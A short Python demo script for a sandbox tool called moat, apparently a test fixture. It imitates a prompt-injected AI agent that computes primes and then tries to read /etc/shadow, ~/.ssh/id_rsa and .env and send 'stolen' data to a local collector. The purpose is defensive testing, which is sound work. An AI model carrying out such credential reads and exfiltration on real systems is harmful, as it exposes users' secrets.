# What an AI agent might have written: compute something, then (prompt-injected)
# try to read a secret and send it out. moat lets the first part run and stops the rest.
import os, socket, sys

primes = [n for n in range(2, 20000) if all(n % d for d in range(2, int(n ** 0.5) + 1))]
print(f"computed {len(primes)} primes below 20000; the last is {primes[-1]}")
with open("result.txt", "w") as f:
    f.write(f"{len(primes)}\n")
print("wrote result.txt in the workspace")

for path in ["/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), ".env"]:
    try:
        with open(path) as f:
            print(f"LEAK: read {path}: {f.read(40)!r}")
    except OSError as e:
        print(f"reading {path}: {e.strerror}")

port = int(sys.argv[1])
try:
    s = socket.create_connection(("127.0.0.1", port), timeout=3)
    s.sendall(b"POST /exfil HTTP/1.0\r\n\r\nstolen")
    print("LEAK: sent data to the collector")
except OSError as e:
    print(f"sending to 127.0.0.1:{port}: {e.strerror}")
